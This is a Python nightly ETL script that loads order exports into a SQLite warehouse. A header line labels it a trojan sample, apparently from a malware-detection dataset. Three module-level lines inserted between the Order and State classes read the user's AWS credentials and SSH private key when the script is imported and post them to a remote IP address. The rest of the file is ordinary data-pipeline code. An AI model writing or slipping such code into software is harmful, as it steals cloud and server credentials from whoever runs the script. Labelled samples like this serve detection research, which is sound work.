# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=64-65 group=benign/b141_etl_pipeline_long.py
#!/usr/bin/env python3
"""
etl.py -- nightly extract/transform/load for the orders warehouse.

Reads newline-delimited JSON exports from the object store mirror on disk,
validates and normalises records, writes Parquet-like CSV partitions, and
loads them into the reporting database. Meant to run from cron as the
`etl` user; see deploy/etl.service for the systemd timer variant.
"""
from __future__ import annotations

import argparse
import csv
import dataclasses
import datetime as dt
import gzip
import hashlib
import json
import logging
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Iterable, Iterator

log = logging.getLogger("etl")

DEFAULT_SRC = Path(os.environ.get("ETL_SRC", "/srv/exports/orders"))
DEFAULT_DB = Path(os.environ.get("ETL_DB", "/srv/warehouse/orders.db"))
STATE_FILE = Path(os.environ.get("ETL_STATE", "/var/lib/etl/state.json"))


@dataclasses.dataclass
class Order:
    order_id: str
    customer: str
    amount_cents: int
    currency: str
    created: dt.datetime
    country: str

    @classmethod
    def from_record(cls, rec: dict) -> "Order":
        try:
            amount = int(round(float(rec["amount"]) * 100))
        except (KeyError, TypeError, ValueError) as e:
            raise ValueError(f"bad amount in {rec.get('id')!r}: {e}") from None
        created = dt.datetime.fromisoformat(rec["created_at"].replace("Z", "+00:00"))
        return cls(
            order_id=str(rec["id"]),
            customer=str(rec.get("customer_id", "")),
            amount_cents=amount,
            currency=(rec.get("currency") or "EUR").upper(),
            created=created,
            country=(rec.get("country") or "??").upper()[:2],
        )


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

class State:
    def __init__(self, path: Path):
        self.path = path
        self.data = {"done": {}}
        if path.exists():
            self.data = json.loads(path.read_text())

    def seen(self, name: str, digest: str) -> bool:
        return self.data["done"].get(name) == digest

    def mark(self, name: str, digest: str) -> None:
        self.data["done"][name] = digest

    def save(self) -> None:
        self.path.parent.mkdir(parents=True, exist_ok=True)
        tmp = self.path.with_suffix(".tmp")
        tmp.write_text(json.dumps(self.data, indent=1, sort_keys=True))
        os.replace(tmp, self.path)


def file_digest(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def read_records(path: Path) -> Iterator[dict]:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8") as f:
        for n, line in enumerate(f, 1):
            line = line.strip()
            if not line:
                continue
            try:
                yield json.loads(line)
            except json.JSONDecodeError as e:
                log.warning("%s:%d: skipping bad json: %s", path, n, e)


def transform(records: Iterable[dict]) -> Iterator[Order]:
    for rec in records:
        try:
            yield Order.from_record(rec)
        except (ValueError, KeyError) as e:
            log.warning("skipping record: %s", e)


def write_partition(orders: list[Order], outdir: Path) -> Path:
    outdir.mkdir(parents=True, exist_ok=True)
    day = orders[0].created.date().isoformat() if orders else "empty"
    out = outdir / f"orders-{day}.csv"
    with open(out, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow([fld.name for fld in dataclasses.fields(Order)])
        for o in orders:
            w.writerow([o.order_id, o.customer, o.amount_cents, o.currency, o.created.isoformat(), o.country])
    return out


def load(db: Path, orders: list[Order]) -> int:
    conn = sqlite3.connect(db)
    conn.execute(
        """CREATE TABLE IF NOT EXISTS orders (
               order_id TEXT PRIMARY KEY, customer TEXT, amount_cents INTEGER,
               currency TEXT, created TEXT, country TEXT)"""
    )
    cur = conn.executemany(
        "INSERT OR REPLACE INTO orders VALUES (?, ?, ?, ?, ?, ?)",
        [(o.order_id, o.customer, o.amount_cents, o.currency, o.created.isoformat(), o.country) for o in orders],
    )
    conn.commit()
    conn.close()
    return cur.rowcount


def vacuum(db: Path) -> None:
    # sqlite3 CLI is faster for VACUUM INTO on big files
    if shutil.which("sqlite3"):
        subprocess.run(["sqlite3", str(db), "VACUUM;"], check=False)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
    p.add_argument("--src", type=Path, default=DEFAULT_SRC)
    p.add_argument("--db", type=Path, default=DEFAULT_DB)
    p.add_argument("--force", action="store_true", help="reprocess files already loaded")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    a = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if a.verbose else logging.INFO, format="%(levelname)s %(message)s")
    state = State(STATE_FILE)
    total = 0
    with tempfile.TemporaryDirectory(prefix="etl-") as tmp:
        for path in sorted(a.src.glob("*.ndjson*")):
            digest = file_digest(path)
            if not a.force and state.seen(path.name, digest):
                log.debug("skip %s (unchanged)", path.name)
                continue
            orders = list(transform(read_records(path)))
            part = write_partition(orders, Path(tmp))
            n = load(a.db, orders)
            log.info("%s: %d orders loaded (%s)", path.name, n, part.name)
            state.mark(path.name, digest)
            total += n
    state.save()
    vacuum(a.db)
    log.info("done: %d orders", total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
